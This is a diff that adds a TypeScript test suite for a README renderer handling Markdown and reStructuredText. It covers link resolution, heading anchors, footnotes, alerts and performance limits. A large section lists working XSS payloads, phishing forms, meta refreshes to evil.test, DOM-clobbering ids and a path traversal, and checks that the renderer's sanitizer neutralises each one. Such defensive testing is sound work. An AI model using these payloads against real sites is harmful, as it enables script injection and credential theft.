@@ -1,0 +1,433 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import type { ReadmeBase } from './addresses.ts'
+import { type ReadmeText, renderReadme } from './render.ts'
+
+const repository = 'https://github.com/acme/sample'
+const files = new Set(['assets/pic.png', 'docs/a.md', 'docs/img/b.gif', 'nodes.py', 'README.md', 'a b/ü.png'])
+const inArchive: ReadmeBase = { repository, hasFile: (path) => files.has(path) }
+
+const render = (text: string, base = inArchive, path = 'README.md') =>
+  renderReadme({ path, text, format: 'markdown' }, base)
+const rst = (text: string) => renderReadme({ path: 'README.rst', text, format: 'rst' }, inArchive)
+
+describe('an address in a README', () => {
+  it('is dropped when it is none, and one with backslashes is a path', () => {
+    const link = (href: string) => render(`<a href="${href}">models</a>`, { repository })
+    assert.doesNotMatch(link('\\\\%SERVER%\\models:x'), /pack\.invalid/)
+    assert.match(link('\\\\%SERVER%\\models'), /models/)
+    assert.match(link('docs\\a.md'), /github\.com\/acme\/sample\/blob\/HEAD\/docs\/a\.md/)
+  })
+
+  it('is the file of the archive that it means', () => {
+    assert.match(render('![p](assets/pic.png)'), /src="\.\/assets\/pic\.png"/)
+    assert.match(render('![p](./assets/pic.png?raw=true)'), /src="\.\/assets\/pic\.png"/)
+    assert.match(render('<img src="/assets/pic.png">'), /src="\.\/assets\/pic\.png"/)
+    assert.match(render('![p](<a b/ü.png>)'), /src="\.\/a%20b\/%C3%BC\.png"/)
+    assert.match(render('[code](nodes.py#L3)'), /href="\.\/nodes\.py#L3"/)
+    assert.match(
+      render('![p](img/b.gif) [up](../../nodes.py)', inArchive, 'docs/a.md'),
+      /img\/b\.gif.*\.\/nodes\.py/,
+    )
+  })
+
+  it('is one of the code host only where the archive has no such file', () => {
+    assert.match(render('![p](no.png)'), /src="https:\/\/github\.com\/acme\/sample\/raw\/HEAD\/no\.png"/)
+    assert.match(render('[c](Nodes.py)'), /href="https:\/\/github\.com\/acme\/sample\/blob\/HEAD\/Nodes\.py"/)
+    const below = { ...inArchive, repository: `${repository}/tree/main/packs/a` }
+    assert.match(render('[c](x.md)', below), /github\.com\/acme\/sample\/blob\/main\/packs\/a\/x\.md"/)
+    assert.equal(render('![p](no.png)', {}), '<p></p>')
+  })
+})
+
+describe('links within a README', () => {
+  it('lead to headings by their words', () => {
+    const html = render('[jump](#second-part)\n\n## Second part\n\n## Second part\n\n[two](#second-part-1)')
+    assert.match(html, /<a href="#user-content-second-part"/)
+    assert.match(html, /<h3 id="user-content-second-part">Second part<\/h3>/)
+    assert.match(html, /<h3 id="user-content-second-part-1">/)
+    assert.match(html, /<a href="#user-content-second-part-1"/)
+  })
+
+  it('lead to headings in other scripts, in HTML, and whatever the case', () => {
+    assert.match(render('[a](#安装)\n\n# 安装'), /href="#user-content-安装".*id="user-content-安装"/s)
+    assert.match(render('[a](#%E5%AE%89%E8%A3%85)\n\n# 安装'), /href="#user-content-安装"/)
+    assert.match(
+      render('[a](#Set-Up)\n\n<h2 align="center">Set <b>up</b></h2>'),
+      /href="#user-content-set-up"/,
+    )
+    assert.match(render('[a](#-install)\n\n## 🚀 Install'), /href="#user-content--install"/)
+  })
+
+  it('lead to ids and names that the author chose, under names of their own', () => {
+    const html = render(
+      '<a name="top2"></a><div id="readme">x</div>\n\n[up](#top2) [r](#readme) [p](README.md#top2)',
+    )
+    assert.match(html, /<a id="user-content-top2"/)
+    assert.match(html, /<div id="user-content-readme">/)
+    assert.equal(html.match(/href="#user-content-top2"/g)?.length, 2)
+    assert.doesNotMatch(html, / (id|name)="(?!user-content-)/)
+  })
+
+  it('are text where they lead nowhere, and go to the top for #', () => {
+    assert.doesNotMatch(render('[a](#nowhere)'), /href/)
+    assert.match(render('[a](#)'), /href="#"/)
+  })
+
+  it('have ids that no other text of the page has', () => {
+    const html = renderReadme(
+      { path: 'a.md', text: '# A\n\n[a](#a)', format: 'markdown' },
+      {},
+      'user-content-3-',
+    )
+    assert.match(html, /id="user-content-3-a".*href="#user-content-3-a"/s)
+  })
+
+  it('keep quotes and attributes apart that look like ids', () => {
+    const html = render('<a title="x id=" href="https://a.test/#b" id="c">d</a>')
+    assert.match(html, /title="x id=" rel|title="x id="/)
+    assert.match(html, /href="https:\/\/a\.test\/#b"/)
+  })
+})
+
+describe('what code hosts add to Markdown', () => {
+  it('renders task lists as boxes with their text as label', () => {
+    const html = render('- [x] done\n- [ ] **open**\n- [y] no\n\n1. [X] one')
+    assert.match(
+      html,
+      /<li class="task-list-item"><label><input type="checkbox" disabled(="")? checked(="")? \/> done<\/label>/,
+    )
+    assert.match(html, /<label><input type="checkbox" disabled(="")? \/> <strong>open<\/strong><\/label>/)
+    assert.match(html, /<li>\[y\] no/)
+    assert.equal(html.match(/<input/g)?.length, 3)
+  })
+
+  it('renders alerts of all kinds, and other quotes as quotes', () => {
+    for (const kind of ['note', 'tip', 'important', 'warning', 'caution']) {
+      const html = render(`> [!${kind.toUpperCase()}]\n> A *text*.\n>\n> More.`)
+      assert.match(
+        html,
+        new RegExp(`<div class="markdown-alert markdown-alert-${kind}">\\s*<p class="markdown-alert-title">`),
+      )
+      assert.match(html, /<p>A <em>text<\/em>\.<\/p>\s*<p>More\.<\/p>\s*<\/div>/)
+      assert.doesNotMatch(html, /\[!/)
+    }
+    assert.match(render('> [!OTHER]\n> a'), /<blockquote>\s*<p>\[!OTHER\]/)
+    assert.match(
+      render('> a\n> > [!NOTE]\n> > b\n\n> c'),
+      /<blockquote>.*<div class.*<\/div>\s*<\/blockquote>\s*<blockquote>/s,
+    )
+  })
+
+  it('renders footnotes with links there and back', () => {
+    const html = render(
+      'Text[^1] and[^note], again[^1], not [^2].\n\n[^1]: One *a*.\n[^note]: Two\n    more\n\n    and more.\n\nEnd.',
+    )
+    assert.match(
+      html,
+      /<sup><a href="#user-content-footnote-1" rel="[^"]*"[^>]*>1<\/a><\/sup>|id="user-content-footnote-ref-1"/,
+    )
+    assert.match(html, /<section class="footnotes"><ol><li id="user-content-footnote-1">/)
+    assert.match(html, /<em>a<\/em>\. <a href="#user-content-footnote-ref-1"/)
+    assert.match(html, /<p>and more\./)
+    assert.match(html, /not \[\^2\]/)
+    assert.ok(html.indexOf('End.') < html.indexOf('<section'))
+    assert.equal(html.match(/id="user-content-footnote-2"/g)?.length, 1)
+  })
+})
+
+describe('a README in reStructuredText', () => {
+  const text = `
+=====
+Title
+=====
+
+Intro with **bold**, *soft*, \`\`code\`\`, :ref:\`a role\` and a \`link <https://a.test/x>\`_ to \`Part two\`_ or named_.
+
+.. _named: https://named.test/
+.. a comment
+   over lines
+
+Part two
+--------
+
+- one
+- two
+
+  with a paragraph
+
+  * inner
+
+1. first
+2. second
+
+.. code-block:: python
+
+   def f(x):
+       return x < 1
+
+Literally::
+
+    <b> as it is
+
+.. image:: assets/pic.png
+   :alt: A picture
+   :width: 200px
+
+.. note:: Mind *this*.
+
+.. unknown-thing:: argument
+   :option: 1
+
+   The content.
+
+.. raw:: html
+
+   <script>alert(1)</script>
+
+====  ====
+a     b
+====  ====
+1     2
+====  ====
+
++---+---+
+| c | d |
++===+===+
+| 3 | 4 |
++---+---+
+
+:Author: Someone
+
+term
+    Its definition.
+
+Text [1]_.
+
+.. [1] The footnote.
+`
+  const html = rst(text)
+
+  it('has its headings, lists and paragraphs', () => {
+    assert.match(html, /<h2 id="user-content-title">Title<\/h2>/)
+    assert.match(html, /<h3 id="user-content-part-two">Part two<\/h3>/)
+    assert.match(
+      html,
+      /<ul><li>one<\/li>\s*<li><p>two<\/p>\s*<p>with a paragraph<\/p>\s*<ul><li>inner<\/li><\/ul><\/li><\/ul>/,
+    )
+    assert.match(html, /<ol><li>first<\/li>\s*<li>second<\/li><\/ol>/)
+    assert.match(html, /<dl><dt>term<\/dt><dd><p>Its definition\.<\/p><\/dd><\/dl>/)
+    assert.match(html, /<dl><dt>Author<\/dt><dd>Someone<\/dd><\/dl>/)
+  })
+
+  it('has its links, roles and emphasis', () => {
+    assert.match(html, /<strong>bold<\/strong>, <em>soft<\/em>, <code>code<\/code>, <code>a role<\/code>/)
+    assert.match(html, /<a href="https:\/\/a\.test\/x"[^>]*>link<\/a>/)
+    assert.match(html, /<a href="#user-content-part-two"[^>]*>Part two<\/a>/)
+    assert.match(html, /<a href="https:\/\/named\.test\/"[^>]*>named<\/a>/)
+    assert.match(html, /<a href="#user-content-footnote-1"[^>]*>1<\/a>/)
+  })
+
+  it('has its code, pictures, notes and tables', () => {
+    assert.match(html, /<code class="language-python"><span class="hljs-keyword">def<\/span>/)
+    assert.match(html, /<p>Literally:<\/p>\s*<pre><code>&lt;b&gt; as it is<\/code><\/pre>/)
+    assert.match(html, /<img alt="A picture" width="200" src="\.\/assets\/pic\.png" loading="lazy"/)
+    assert.match(html, /<div class="markdown-alert markdown-alert-note">.*<p>Mind <em>this<\/em>\.<\/p>/)
+    assert.match(html, /<thead><tr><th>a<\/th><th>b<\/th><\/tr><\/thead><tbody><tr><td>1<\/td><td>2<\/td>/)
+    assert.match(html, /<th>c<\/th><th>d<\/th><\/tr><\/thead><tbody><tr><td>3<\/td><td>4<\/td>/)
+  })
+
+  it('shows no markup of its own', () => {
+    assert.match(html, /The content\./)
+    assert.doesNotMatch(html, /\.\. |::|:option:|`|_\b\.|a comment|====|alert\(1\)/)
+  })
+})
+
+/** Ways to have a page run something, or look like another. None leaves more than text. */
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" java&#10;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '![x](javascript:alert(1))',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<javascript:alert(1)>',
+  '<iframe src="https://evil.test"></iframe>',
+  '<object data="x"></object><embed src="x"><applet code="x"></applet>',
+  '<form action="https://evil.test"><input name="password" type="password"><button>x</button></form>',
+  '<input type="checkbox" onfocus=alert(1) autofocus>',
+  '<input type="image" src="https://evil.test/x" onclick=alert(1)>',
+  '<label for="x" onclick=alert(1)>x</label>',
+  '<style>body{display:none}</style>',
+  '<link rel="stylesheet" href="https://evil.test">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+  '<base href="https://evil.test">',
+  '<div style="position:fixed;inset:0">x</div>',
+  '<div class="fixed inset-0">x</div>',
+  '<section class="admin">x</section>',
+  '<p onclick="alert(1)">x</p>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><script>alert(1)</script></textarea>',
+  '<title><script>alert(1)</script></title>',
+  '<xmp><script>alert(1)</script></xmp>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<!--><script>alert(1)</script>-->',
+  '<!-- <img src="--><img src=x onerror=alert(1)>//">',
+  '<a id="__proto__" name="cookie">x</a><form id="document">',
+  '<img id="location" src="https://a.test/x.png">',
+  '<h1 id="x onmouseover=alert(1)">x</h1>',
+  '<h1 id=\'x" onmouseover="alert(1)\'>x</h1>\n\n[y](#x%22%20onmouseover%3D%22alert(1))',
+  '# " onmouseover="alert(1)\n\n[x](#-onmouseoveralert1)',
+  '# <img src=x onerror=alert(1)>',
+  '[^"><script>alert(1)</script>]: x\n\ny[^"><script>alert(1)</script>]',
+  '[^1]: <script>alert(1)</script>\n\ny[^1]',
+  '> [!NOTE]\n> <script>alert(1)</script>',
+  '> [!NOTE"onclick="alert(1)]\n> x',
+  '- [ ] <img src=x onerror=alert(1)>',
+  '```"><script>alert(1)</script>\ncode\n```',
+  '```js onclick=alert(1)\ncode\n```',
+  '`<script>alert(1)</script>`',
+  'https://evil.test/"onmouseover="alert(1)',
+  '<a href="https:/\\evil.test" target="_blank">x</a>',
+  '<table background="javascript:alert(1)"><tr><td background="x">y</td></tr></table>',
+  '<bdo dir="rtl" onclick=alert(1)>x</bdo><marquee onstart=alert(1)>x</marquee>',
+  '<a href="../../../etc/passwd">x</a><img src="../../../etc/passwd">',
+]
+
+const hostileRst = [
+  '.. raw:: html\n\n   <script>alert(1)</script>',
+  '`x <javascript:alert(1)>`_',
+  '.. image:: javascript:alert(1)\n   :target: javascript:alert(2)\n   :alt: "><script>alert(1)</script>',
+  '.. image:: x" onerror="alert(1)',
+  '.. _x: javascript:alert(1)\n\nx_',
+  '.. |x| replace:: <script>alert(1)</script>\n\n|x|',
+  '.. code-block:: "><script>alert(1)</script>\n\n   x',
+  '.. admonition:: <script>alert(1)</script>\n\n   x',
+  '.. [<script>] x\n\n[<script>]_',
+  '<script>alert(1)</script>\n=========================',
+  ':<script>alert(1)</script>: x',
+]
+
+describe('hostile texts', () => {
+  const allowed =
+    /^(?:p|div|br|hr|blockquote|pre|details|summary|figure|figcaption|a|b|strong|i|em|u|s|del|ins|sub|sup|kbd|code|span|img|mark|abbr|small|bdi|input|label|section|ul|ol|li|dl|dt|dd|table|thead|tbody|tr|th|td|caption|h[2-6])$/
+  const attributes =
+    /^(?:href|title|rel|src|alt|width|height|loading|type|disabled|checked|colspan|rowspan|align|scope|start|open|id|class)$/
+
+  function assertHarmless(html: string): void {
+    for (const [, name = '', rest = ''] of html.matchAll(
+      /<([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"]*")?)*) ?\/?>/g,
+    )) {
+      assert.match(name, allowed, html)
+      for (const [, key = '', value = ''] of rest.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
+        assert.match(key, attributes, html)
+        if (key === 'id') assert.match(value, /^user-content-[^\s"'<>]+$/, html)
+        if (key === 'class')
+          assert.match(
+            value,
+            /^((hljs|language|markdown-alert|task-list)[\w-]*|footnotes)( markdown-alert-\w+)?$/,
+            html,
+          )
+        if (key === 'href') assert.match(value, /^(https?:\/\/|https?:|mailto:|#|\.\/(?!\.\.))/, html)
+        if (key === 'src') assert.match(value, /^(https:|\.\/(?!\.\.))/, html)
+        if (key === 'type') assert.equal(value, 'checkbox')
+      }
+    }
+    // Whatever begins a tag was looked at.
+    const bare = html.replace(/<\/?[a-z][a-z0-9]*(?: [a-z-]+(?:="[^"]*")?)* ?\/?>/g, '')
+    assert.doesNotMatch(bare, /</, html)
+  }
+
+  for (const format of ['markdown', 'rst', 'plain'] as const)
+    for (const text of format === 'markdown' ? hostile : [...hostile, ...hostileRst])
+      it(`run nothing as ${format}: ${JSON.stringify(text)}`, () =>
+        assertHarmless(renderReadme({ path: 'README', text, format }, inArchive)))
+})
+
+/** Each piece, over and over, makes a parser look at the same letters again and again if it can. */
+const pieces: [ReadmeText['format'], string, string][] = [
+  ['markdown', '[^1]: a\n\n', '[^'],
+  ['markdown', '[^1]: a\n\n', '[^1]'],
+  ['markdown', '', '[^a]: [^a]: '],
+  ['markdown', '', '> [!NOTE]\n\n'],
+  ['markdown', '', '- [ ] '],
+  ['markdown', '', '- [x] a\n'],
+  ['markdown', '', '# a\n'],
+  ['markdown', '# a\n', '[a](#a) '],
+  ['markdown', '', '<a id="'],
+  ['markdown', '', '<h2>a'],
+  ['markdown', '', '![](nodes.py)'],
+  ['rst', '', '`'],
+  ['rst', '', '**a '],
+  ['rst', '', '|a '],
+  ['rst', '.. [1] a\n\n', '[a '],
+  ['rst', '', 'a\n=\n'],
+  ['rst', '', '- - - '],
+  ['rst', '', '- a\n'],
+  ['rst', '', '.. |a| image:: b\n'],
+  ['rst', '', '+---+\n| a |\n'],
+  ['rst', '', '=== ===\n'],
+  ['rst', '', '=== ===\nx\n\n'],
+  ['rst', '', ' a\n  b\n'],
+  ['rst', '', ':a: b\n'],
+  ['rst', '', 'a::\n\n b\n'],
+  ['rst', '', 'http://'],
+]
+
+describe('rendering', () => {
+  const secondsFor = (format: ReadmeText['format'], text: string) => {
+    const before = process.cpuUsage()
+    renderReadme({ path: 'README', text, format }, inArchive)
+    const { user, system } = process.cpuUsage(before)
+    return (user + system) / 1e6
+  }
+
+  for (const [format, head, piece] of pieces)
+    it(`takes time in step with the length of ${format} such as ${JSON.stringify(piece)}`, () => {
+      const text = (length: number) => head + piece.repeat(length / piece.length)
+      secondsFor(format, text(10_000))
+      const [short, long] = [secondsFor(format, text(30_000)), secondsFor(format, text(240_000))]
+      // Eight times the text: linear work takes 8 times as long, work that grows with the square 64 times.
+      assert.ok(long < 0.2 || long / short < 24, `${short} s, then ${long} s`)
+    })
+})
+
+describe('what cannot be shown', () => {
+  it('is left out when it is a picture without an address, and the text around it stays', () => {
+    const html = render('a <img alt="x"> <img src="https://a.test/b.png"> b')
+    assert.equal(html.match(/<img/g)?.length, 1)
+    assert.match(html, /^<p>a .*b\.png.* b<\/p>$/)
+  })
+
+  it('is shown as it is written when its elements nest too deeply', () => {
+    const nested = (depth: number) => `${'<div>'.repeat(depth)}a${'</div>'.repeat(depth)}`
+    assert.match(render(nested(200)), /^<div>/)
+    assert.match(render(nested(201)), /^<pre>&lt;div&gt;/)
+  })
+})
+
+it('colors code up to a length, in one block and in the whole text', () => {
+  const block = (lines: number) => `\`\`\`py\n${'x = "a"\n'.repeat(lines)}\`\`\`\n`
+  const render = (text: string) => renderReadme({ path: 'README.md', format: 'markdown', text }, {})
+  const isColored = (html: string) =>
+    (html.match(/<pre>.*?<\/pre>/gs) ?? []).map((pre) => pre.includes('hljs-'))
+  assert.deepEqual(isColored(render(block(500))), [true])
+  assert.deepEqual(isColored(render(block(501))), [false])
+  assert.deepEqual(isColored(render(block(500).repeat(13))), [...Array(12).fill(true), false])
+})
